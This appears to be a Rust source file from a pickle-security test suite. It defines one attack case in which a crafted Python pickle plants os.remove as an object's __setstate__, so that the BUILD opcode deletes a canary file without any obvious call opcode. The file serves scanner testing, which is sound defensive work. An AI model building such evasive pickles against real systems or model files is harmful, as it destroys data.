//! `os.remove` by the opcode BUILD: a `__setstate__` that the pickle itself puts there.

use super::*;
use crate::pickle::Op;

/// A file is removed.
pub const ATTACK: Attack = Attack {
    id: "file-delete",
    title: "a file is deleted by a planted __setstate__",
    summary: "The pickle makes an empty namespace, sets its attribute __setstate__ to \
              os.remove, and then sets its state to a path. No opcode that is known for \
              calling is near the function.",
    severity: Severity::High,
    targets: Targets::Python(Loader::ALL),
    techniques: &[
        techniques::FILE_DELETION,
        techniques::DATA_DESTRUCTION,
        techniques::UNSAFE_ML_ARTIFACTS,
    ],
    cwe: &[502, 73],
    references: &[
        Reference {
            title: "Python documentation: object.__setstate__",
            url: "https://docs.python.org/3/library/pickle.html#object.__setstate__",
        },
        Reference {
            title: "Python documentation: os.remove",
            url: "https://docs.python.org/3/library/os.html#os.remove",
        },
    ],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Deleted(CANARY)],
        policy: &[Evidence { kind: EventKind::FileChange, text: CANARY }],
    },
    quick: false,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let path = scene.path(CANARY);
    payload::file(ATTACK.id, target, |assembler| {
        assembler.global("types", "SimpleNamespace").op(Op::EmptyTuple).op(Op::NewObj);
        assembler.op(Op::EmptyDict).text("__setstate__").global("os", "remove").op(Op::SetItem);
        assembler.op(Op::Build).text(&path).op(Op::Build);
    })
}
